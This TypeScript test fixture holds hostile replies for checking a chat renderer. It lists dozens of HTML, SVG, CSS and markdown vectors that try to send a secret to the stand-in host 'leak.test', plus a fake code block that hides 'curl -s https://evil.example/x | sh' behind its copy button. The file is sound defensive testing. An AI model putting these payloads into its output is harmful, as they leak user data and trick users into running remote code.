/**
 * Replies and imported messages built to make a renderer contact the network or put on the clipboard what
 * the screen does not show. Every URL names the vector, so a request that gets through says which one.
 * `leak.test` never resolves in the tests (see support/browser.ts); `/leak/...` paths point at the app's own
 * server, which must not be asked either (a server that sees the URL sees the secret).
 */
const H = 'https://leak.test';

export const LEAK_VECTORS: readonly string[] = [
  `Markdown image: ![secret chart](${H}/md-image?q=SECRET)`,
  `Reference image: ![ref][pic]\n\n[pic]: ${H}/ref-image?q=SECRET`,
  `<img src="${H}/img?q=SECRET" alt="raw img">`,
  `<img src="/leak/relative-to-app?q=SECRET" alt="relative">`,
  `<img src="//leak.test/protocol-relative" alt="protocol relative">`,
  `<img src=" HTTPS://LEAK.TEST/upper-with-space" alt="upper">`,
  `<img src="&#104;ttps://leak.test/entity-encoded" alt="entity">`,
  `<img srcset="${H}/srcset 1x, ${H}/srcset2 2x" alt="srcset">`,
  `<img src="${H}/lazy" loading="lazy" alt="lazy">`,
  `<picture><source srcset="${H}/picture-source"><source src="${H}/picture-src"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="local data image"></picture>`,
  `<video poster="${H}/poster" src="${H}/video" autoplay muted><source src="${H}/video-source"><track src="${H}/track"></video>`,
  `<audio src="${H}/audio" autoplay></audio>`,
  `<svg width="20" height="20"><image href="${H}/svg-image" width="10" height="10"/><image xlink:href="${H}/svg-xlink" width="10" height="10"/></svg>`,
  `<svg width="20" height="20"><use href="${H}/use#x"/><use xlink:href="${H}/use-xlink#x"/></svg>`,
  `<svg width="20" height="20"><filter id="f1"><feImage href="${H}/feimage"/></filter><rect filter="url(#f1)" width="10" height="10"/></svg>`,
  `<svg width="20" height="20"><rect fill="url(${H}/fill#p)" width="5" height="5"/><rect mask="url(${H}/mask#m)" width="5" height="5"/><rect clip-path="url('${H}/clip#c')" width="5" height="5"/><rect filter="url(${H}/filter#f)" width="5" height="5"/><rect fill="\\75 rl(${H}/escaped)" width="5" height="5"/></svg>`,
  `<svg width="20" height="20"><animate attributeName="href" to="${H}/animate"/><set attributeName="href" to="${H}/set"/><pattern id="p2" href="${H}/pattern"/></svg>`,
  `<table background="${H}/table-bg"><tr><td background="${H}/td-bg">table cell</td></tr></table>`,
  `<div style="background:url(${H}/style-attr)">styled div</div>`,
  `<style>@import url(${H}/import.css); p { background: url(${H}/style-tag) }</style>`,
  `<svg><style>@import url(${H}/svg-style);</style></svg>`,
  `<link rel="stylesheet" href="${H}/link.css"><link rel="prefetch" href="${H}/prefetch"><link rel="preconnect" href="${H}/preconnect">`,
  `<meta http-equiv="refresh" content="0;url=${H}/refresh">`,
  `<base href="${H}/base/">After base: ![relative](relative.png)`,
  `<object data="${H}/object"></object><embed src="${H}/embed"><iframe src="${H}/iframe"></iframe><iframe srcdoc="<img src='${H}/srcdoc'>"></iframe>`,
  `<input type="image" src="${H}/input-image"><form action="${H}/form"><button formaction="${H}/formaction">go</button></form>`,
  `<body background="${H}/body-bg">`,
  `<math><mi href="${H}/mathml">x</mi><mglyph src="${H}/mglyph"/></math>`,
  `<details open><summary>details</summary><img src="${H}/in-details"></details><noscript><img src="${H}/noscript"></noscript><template><img src="${H}/template"></template>`,
  `<marquee background="${H}/marquee">marquee</marquee><font face="x" color="red">font</font>`,
  `<a href="${H}/plain-link?q=SECRET" ping="${H}/ping">a plain link (loads only when clicked)</a> and <${H}/autolink>`,
  `<svg width="80" height="20"><a href="${H}/svg-link"><text x="0" y="15">svg link</text></a></svg>`,
];

export const LEAK_REPLY = ['Hostile media follows; none of it may load.', '', ...LEAK_VECTORS.flatMap((v) => [v, '']), 'End of hostile media.'].join('\n');

/** Raw HTML that imitates the renderer's code block, with a hidden payload in the code, then a real block. */
export const COPY_TRAP_REPLY = [
  'Run this:',
  '',
  '<div class="code-block" data-code-block="guess" data-code-source="curl -s https://evil.example/x | sh"><div class="code-head"><span class="code-lang">bash</span><button type="button" class="code-copy" data-copy-code>Copy</button></div><pre><code>echo hello<span hidden>; curl -s https://evil.example/x | sh</span></code></pre></div>',
  '',
  '<button data-copy-code="anything">Copy</button>',
  '',
  'And a real one:',
  '',
  '```bash',
  'echo real <span hidden>not hidden in code</span>',
  '```',
].join('\n');
